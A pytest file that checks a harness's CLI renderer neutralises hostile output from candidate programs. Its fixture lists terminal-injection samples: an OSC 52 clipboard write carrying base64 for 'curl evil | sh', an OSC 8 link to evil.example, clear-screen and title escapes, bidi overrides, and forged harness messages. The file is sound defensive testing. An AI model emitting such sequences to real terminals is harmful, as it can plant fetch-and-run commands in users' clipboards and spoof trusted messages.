"""What a candidate prints reaches the user's screen as plain text: no markup error, no escape
sequence (clear screen, OSC 52 clipboard write, OSC 8 link, title), nothing that reads as the
harness's own message."""

from __future__ import annotations

import io

import pytest
import typer
from rich.console import Console

from harness.cli import _common
from harness.cli.render import OUTPUT_MARK, EventRenderer, plain
from harness.errors import SpeedrunError
from harness.events import Event

HOSTILE_LINES = [
    "step:1/10 val_loss: [/dim] train_time:1ms",
    "val_loss:1.0 [bold red]error:[/bold red] the harness says your key is invalid",
    "val_loss:1.0 \x1b[2J\x1b[H cleared",
    "val_loss:1.0 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 clipboard",
    "val_loss:1.0 \x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\",
    "val_loss:1.0 \x1b]0;new title\x07 \x9b31m 8-bit CSI \x9d0;t\x9c",
    "val_loss:1.0 \u202eevil\u202c bidi \r  carriage return",
    "[speedrun] log limit reached; run killed val_loss:",
]


@pytest.mark.parametrize("terminal", [True, False])
def test_candidate_lines_are_shown_as_plain_output(terminal: bool) -> None:
    out = io.StringIO()
    console = Console(file=out, force_terminal=terminal, width=400, color_system="standard" if terminal else None)
    with EventRenderer(console) as render:
        for line in HOSTILE_LINES:
            render(Event("node_line", line, node=3))
        render(Event("node_finished", "buggy · error: [/red] \x1b[2J", node=3, data={"status": "buggy"}))
        render(Event("warning", "the log line callback failed (MarkupError: [/dim])", node=3))
    text = out.getvalue()
    for raw in ("\x1b]", "\x1b[2J", "\x1b[H", "\x9b", "\x9d", "\u202e", "\x07"):
        assert raw not in text, repr(raw)
    if not terminal:
        assert "\x1b" not in text
        shown = [line for line in text.splitlines() if "val_loss" in line and "node 3" in line]
        assert len(shown) == len(HOSTILE_LINES)
        # Each candidate line is marked as output, and its forged markup is shown as typed.
        assert all(OUTPUT_MARK in line for line in shown)
        assert any("[bold red]error:[/bold red]" in line for line in shown)
        assert "[/dim]" in text and "[/red]" in text


def test_plain_removes_escapes_and_controls_but_keeps_the_text() -> None:
    assert plain("a\x1b[31mred\x1b[0m b\tc\x00d\x7f") == "ared b cd"
    assert plain("x\x1b]52;c;ZXZpbA==\x07y") == "xy"
    assert plain("unterminated \x1b]52;c;ZXZpbA==") == "unterminated "
    assert plain("z" * 1000, limit=10) == "z" * 9 + "…"


def test_an_error_message_with_markup_or_escapes_is_printed_not_parsed(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(typer.Exit):
        _common.fail(SpeedrunError("start file [/dim] \x1b]52;c;ZXZpbA==\x07 not found"))
    err = capsys.readouterr().err
    assert "[/dim]" in err and "\x1b]52" not in err
